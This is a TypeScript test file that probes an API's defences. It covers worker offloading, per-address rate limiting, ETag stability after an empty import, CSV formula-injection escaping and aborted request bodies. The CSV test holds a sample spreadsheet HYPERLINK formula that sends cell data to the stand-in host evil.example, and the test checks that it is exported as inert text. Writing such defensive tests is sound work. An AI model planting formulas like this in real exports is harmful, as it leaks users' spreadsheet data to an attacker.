/**
 * Issue 24's probes of the API, as an attacker and a careless user made them, each kept as a
 * test that fails if the hole comes back. The others live beside the code they probe:
 * compute limits and deadlines (limits.test.ts), restricted history (restricted-history.test.ts),
 * lost updates (lost-updates.test.ts; raced on two servers in two-servers.test.ts), clients that
 * abort on a real server (aborted-requests.test.ts), hostile
 * files (io/tables/hostile-tables.test.ts, io/bods/hostile-bods.test.ts, io/hostile-yaml.test.ts,
 * test/cli-hostile-input.test.ts), the compute pool (runtime/compute-pool.test.ts) and the
 * flood itself, timed, in the bench (flood-test.ts).
 */
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { computeWorkerPath } from "../app/open-compute-pool.js";
import { type Fixture, fixture } from "./_test-server.js";

let f: Fixture;
let pub: Fixture;
beforeAll(async () => {
  f = await fixture();
  pub = await fixture({ publicRead: true, limits: { refusalPauseMs: 0 } });
});
afterAll(async () => {
  await f.close();
  await pub.close();
});

const CACHED = "/api/reports/control?commodity=cobalt&period=2024&asOf=2025-12-31";

const compareBody = (name: string, cheap = false) =>
  JSON.stringify({
    scenarios: ["base", { name, baseDate: "2025-06-30" }],
    commodities: ["cobalt"],
    ...(cheap ? { routes: false, stockpile: false } : {}),
  });

describe("probes of the API (issue 24)", () => {
  test.skipIf(computeWorkerPath() === undefined)(
    "a comparison computes on a worker: while it runs, a cached report is answered first",
    async () => {
      expect(f.app.services.compute.workers).toBeGreaterThan(0);
      expect((await f.app.request(CACHED, { headers: f.auth("viewer") })).status).toBe(200);
      let compared = false;
      const comparison = Promise.resolve(
        f.app.request("/api/scenarios/compare", {
          method: "POST",
          headers: { ...f.auth("viewer"), "content-type": "application/json" },
          body: compareBody("Off the event loop"),
        }),
      ).then((r) => {
        compared = true;
        return r;
      });
      while (f.app.services.compute.stats().running === 0 && !compared)
        await new Promise((r) => setTimeout(r, 5));
      const read = await f.app.request(CACHED, { headers: f.auth("viewer") });
      expect(read.status).toBe(200);
      expect(compared).toBe(false);
      expect((await comparison).status).toBe(200);
    },
  );

  test("more anonymous comparisons at once from one address than may run and wait: those past them are refused 429, none is a server error", async () => {
    const limits = pub.app.services.limits.opts.address;
    const n = limits.running + limits.waiting + 2;
    const answers = await Promise.all(
      Array.from({ length: n }, (_, i) =>
        pub.app.request(
          "/api/scenarios/compare",
          {
            method: "POST",
            headers: { "content-type": "application/json" },
            body: compareBody(`Flood ${i}`, true),
          },
          { incoming: { socket: { remoteAddress: "198.51.100.7" } } },
        ),
      ),
    );
    const statuses = answers.map((r) => r.status);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(2);
    for (const r of answers.filter((a) => a.status === 429))
      expect(Number(r.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
    // The others were computed in turn (or, on a slow machine, met their deadline: 503).
    for (const s of statuses) expect([200, 429, 503]).toContain(s);
    expect(statuses).toContain(200);
  });

  test("an import that writes nothing leaves every ETag as it was", async () => {
    const first = await f.app.request(CACHED, { headers: f.auth("analyst") });
    const etag = first.headers.get("etag") as string;
    const ds = (await (
      await f.app.request("/api/export?format=json", { headers: f.auth("analyst") })
    ).json()) as { entities: unknown[] };
    const imported = await f.app.request("/api/import", {
      method: "POST",
      headers: { ...f.auth("analyst"), "content-type": "application/json" },
      body: JSON.stringify({ entities: ds.entities }),
    });
    expect(imported.status).toBe(200);
    expect(((await imported.json()) as { writtenTotal: number }).writtenTotal).toBe(0);
    const again = await f.app.request(CACHED, {
      headers: { ...f.auth("analyst"), "if-none-match": etag },
    });
    expect(again.status).toBe(304);
  });

  test("a CSV export through the API writes a formula-looking cell as text, never as a formula", async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const made = await f.app.request("/api/records/sources", {
      method: "POST",
      headers: { ...f.auth("analyst"), "content-type": "application/json" },
      body: JSON.stringify({ id: "formula-title", title, kind: "analyst", confidence: "low" }),
    });
    expect(made.status).toBe(201);
    const res = await f.app.request("/api/export?format=csv&kind=sources", {
      headers: f.auth("viewer"),
    });
    expect(res.status).toBe(200);
    const row = (await res.text()).split(/\r?\n/).find((l) => l.startsWith("formula-title,"));
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
  });

  test("a client that goes away mid-body is not logged as an internal error", async () => {
    const logged: string[] = [];
    const spy = vi.spyOn(process.stderr, "write").mockImplementation((chunk: unknown) => {
      logged.push(String(chunk));
      return true;
    });
    try {
      for (const path of ["/api/import", "/api/records/entities", "/api/scenarios/compare"]) {
        // What Node's server gives a handler when the socket closes under a body being read.
        const gone = new AbortController();
        const body = new ReadableStream<Uint8Array>({
          start: (ctrl) => ctrl.enqueue(new TextEncoder().encode('{"entities": [')),
          pull: () => {
            gone.abort();
            throw Object.assign(new Error("aborted"), { code: "ECONNRESET" });
          },
        });
        const res = await f.app.request(
          new Request(`http://localhost${path}`, {
            method: "POST",
            headers: { ...f.auth("analyst"), "content-type": "application/json" },
            body,
            duplex: "half",
            signal: gone.signal,
          } as RequestInit),
        );
        expect(res.status).toBeLessThan(500);
      }
    } finally {
      spy.mockRestore();
    }
    expect(logged.join("")).not.toMatch(/orebook api|\n\s+at /);
  });
});
